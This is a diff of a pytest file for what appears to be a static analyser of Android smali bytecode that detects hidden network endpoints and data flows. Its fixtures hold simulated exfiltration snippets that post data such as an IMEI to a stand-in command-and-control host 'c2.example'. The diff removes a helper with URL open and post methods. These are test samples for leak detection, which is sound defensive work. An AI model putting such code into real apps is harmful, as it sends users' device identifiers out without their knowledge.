@@ -28,25 +28,6 @@ const-string v0, "http://c2.example/x"
 invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
 return-void
 """
-NET = """
-.class Lapp/Net;
-.method static open(Ljava/lang/String;)V 6
-new-instance v0, Ljava/net/URL;
-invoke-direct {v0, v5} Ljava/net/URL;-><init>(Ljava/lang/String;)V
-invoke-virtual {v0} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
-return-void
-.method static post(Ljava/lang/String;Ljava/lang/String;)V 7
-new-instance v0, Ljava/net/URL;
-invoke-direct {v0, v5} Ljava/net/URL;-><init>(Ljava/lang/String;)V
-invoke-virtual {v0} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
-move-result-object v1
-invoke-virtual {v1} Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
-move-result-object v2
-invoke-virtual {v6} Ljava/lang/String;->getBytes()[B
-move-result-object v3
-invoke-virtual {v2, v3} Ljava/io/OutputStream;->write([B)V
-return-void
-"""
 
 
 class Assets(NoResources):
@@ -1396,14 +1377,12 @@ return-void
 @pytest.mark.parametrize("way", HIDDEN)
 def test_a_hidden_address_is_computed(way: str, analyse: Analyse) -> None:
     body, more, files = HIDDEN[way]
-    text = (
-        f"{MAIN}{body}\ninvoke-static {{v0}} Lapp/Net;->open(Ljava/lang/String;)V\nreturn-void\n{more}\n{NET}"
-    )
+    text = f"{MAIN}{body}\ninvoke-static {{v0}} Lapp/Net;->open(Ljava/lang/String;)V\nreturn-void\n{more}"
     assert URL in {e.value for e in analyse(text, Assets(files)).endpoints}
 
 
 @pytest.mark.parametrize("way", MOVED)
 def test_data_is_followed(way: str, analyse: Analyse) -> None:
     body, expected = MOVED[way]
-    text = MAIN + body.replace("@IMEI@", IMEI).replace("@SEND@", SEND) + NET
+    text = MAIN + body.replace("@IMEI@", IMEI).replace("@SEND@", SEND)
     assert expected in {(f.data.value, f.sink.value, f.endpoint) for f in analyse(text).flows}
